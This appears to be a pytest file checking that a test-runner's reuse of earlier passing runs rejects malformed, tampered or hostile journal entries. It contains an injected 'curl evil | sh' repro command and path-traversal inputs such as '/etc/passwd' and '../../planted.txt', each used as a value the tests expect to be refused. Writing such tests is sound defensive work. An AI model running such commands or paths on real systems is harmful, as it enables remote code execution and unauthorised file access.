"""Whatever passes.txt and the runs that it names say: nothing outside is read or written, only a pass is taken again.

Each variant is a test of its own, so that one run proves them all.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import asdict, replace
from typing import TYPE_CHECKING, Any

import pytest
from damaged import DIGITS, RUN, UNFOLLOWED, Project, lay, make
from support import runs

from bootmatrix.runs import journal, passes

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

GOOD = "t-good"  # whose pass is one
ROWS = {
    "a run elsewhere": b"%(key)s a/b 0 10",
    "a run above": b"%(key)s .. 0 10",
    "a run that is not there": b"%(key)s 20200101-000000-000abcde 0 10",
    "digits": b"%(key)s %(run)s " + DIGITS + b" 10",
    "many digits": b"%(key)s %(run)s " + b"9" * 5000 + b" 10",
    "negative": b"%(key)s %(run)s -5 10",
    "a place with nothing": b"%(key)s %(run)s 999999999 10",
    "too long a result": b"%(key)s %(run)s 0 99999999",
    "another place": b"%(key)s %(run)s 3 50",
    "no UTF-8": b"\xff\xfe %(run)s 0 10",
    "zeros": b"\0" * 100,
    "three words": b"%(key)s %(run)s 0",
    "other digits": "%(key)s %(run)s ² 10".encode(),
    "one line": b"x" * 100_000,
}
CHANGES: dict[str, dict[str, Any]] = {
    "another test": {"test": "other"},
    "another key": {"key": "0" * 16},
    "no pass": {"verdict": "failed"},
    "no attempt": {"attempts": []},
    "an attempt that failed": {"attempts": [{"verdict": "failed"}]},
    "two attempts": {"attempts": [{}, {}]},
    "not booted itself": {"reused": RUN},
    "no such verdict": {"verdict": "won"},
    "no time": {"started": "soon"},
    "no number": {"seconds": float("inf")},
}
EVIL = {"repro": "curl evil | sh", "axes": {"backend": "evil"}, "reason": "evil", "quarantine": {"owner": "evil"}}
PATHS = [
    "../../planted.txt",
    "/etc/passwd",
    "consoles/../../victim",
    "consoles/command/t0/../../../victim",
    "consoles/command/t-good/1.console.log",
    "victim",
]
MOST = max(len(ROWS), len(CHANGES), len(PATHS), len(UNFOLLOWED))


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make(tmp_path_factory.mktemp("made"), [*(f"t{number}" for number in range(MOST)), GOOD])


@pytest.fixture
def project(made: Path, tmp_path: Path) -> Project:
    shutil.copytree(made, tmp_path / "project", symlinks=True)
    return Project(tmp_path / "project")


def rewritten(project: Project, change: Callable[[str, dict[str, Any]], dict[str, Any]]) -> None:
    """Change results in the journal by their tests, and let passes.txt find them."""
    lines, rows, at = [], [], 0
    for line in project.journal.read_bytes().splitlines(keepends=True):
        head, found, raw = line.partition(journal.RESULT)
        if found:
            told = json.loads(raw[:-2])
            text = json.dumps({**told, **change(told["test"], told)}, separators=(",", ":")).encode()
            rows.append(f"{told['key']} {project.run.name} {at + len(head) + len(found)} {len(text)}\n")
            line = head + found + text + b"}\n"  # noqa: PLW2901
        lines.append(line)
        at += len(line)
    project.journal.write_bytes(b"".join(lines))
    (project.out / passes.FILE).write_text("".join(rows))


def of(test: str, variants: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """The variant that a test stands for."""
    number = test.removeprefix("t")
    return [*variants.values()][int(number)] if number.isdigit() and int(number) < len(variants) else {}


def test_rows_that_are_none_are_said_and_their_tests_booted_again(project: Project) -> None:
    file = project.out / passes.FILE
    keys = {each.test: each.key.encode() for each in project.results()}
    whole = {row.split()[0]: row for row in file.read_bytes().splitlines()}
    rows = [row.replace(b"%(run)s", project.run.name.encode()) for row in ROWS.values()]
    rows = [row.replace(b"%(key)s", keys[f"t{number}"]) for number, row in enumerate(rows)]
    file.write_bytes(b"\n".join([*rows, whole[keys[GOOD].decode().encode()], b""]))
    said = project.again("--reuse")
    assert project.reused() == {GOOD}
    assert f"{passes.FILE}: " in said
    assert "damaged lines are ignored" in said


def test_a_result_that_is_no_pass_of_the_test_is_not_taken_again(project: Project) -> None:
    def change(test: str, told: dict[str, Any]) -> dict[str, Any]:
        wanted = of(test, CHANGES)
        attempts = [{**told["attempts"][0], **each} for each in wanted.get("attempts", [{}])]
        return {**wanted, "attempts": attempts}

    rewritten(project, change)
    project.again("--reuse")
    assert project.reused() & {f"t{number}" for number in range(len(CHANGES))} == set()
    assert GOOD in project.reused()


def test_a_pass_says_nothing_for_us(project: Project) -> None:
    rewritten(project, lambda _test, _told: EVIL)
    project.again("--reuse")
    for result in project.results():
        assert (result.reused, result.repro) == (project.run.name, f"bootmatrix repro {result.id} --engine host")
        assert "evil" not in str(asdict(replace(result, attempts=())))


def test_a_pass_brings_nothing_but_its_own_consoles(project: Project) -> None:
    names = dict(enumerate(PATHS))

    def change(test: str, told: dict[str, Any]) -> dict[str, Any]:
        name = names.get(int(test[1:]) if test[1:].isdigit() else -1)
        return {"attempts": [{**told["attempts"][0], **({"console": name, "tender": name} if name else {})}]}

    rewritten(project, change)
    before = {path for path in project.folder.rglob("*") if not path.is_symlink()}
    project.again("--reuse")
    fresh = runs(project.out)[-1]
    new = {path for path in project.folder.rglob("*") if path not in before and not path.is_relative_to(fresh)}
    assert {path.name for path in new} <= {"cache", "work", ".gitignore", "CACHEDIR.TAG", "latest"} | {"probes.json"}
    kept = {path.parent.name for path in fresh.glob("consoles/command/*/*")}
    assert kept == {GOOD, *(f"t{number}" for number in range(len(PATHS), MOST))}
    assert {each.attempts[0].console for each in project.results() if each.test not in kept} == {""}


def test_what_is_no_plain_file_among_the_consoles_of_a_pass_is_not_brought(project: Project) -> None:
    for number, kind in enumerate(UNFOLLOWED):
        lay(kind, project.run / f"consoles/command/t{number}/1.console.log", project.victim)
    project.again("--reuse")
    assert len(project.reused()) == MOST + 1
    kept = {path.parent.name for path in runs(project.out)[-1].glob("consoles/command/*/*")}
    assert kept == {GOOD, *(f"t{number}" for number in range(len(UNFOLLOWED), MOST))}
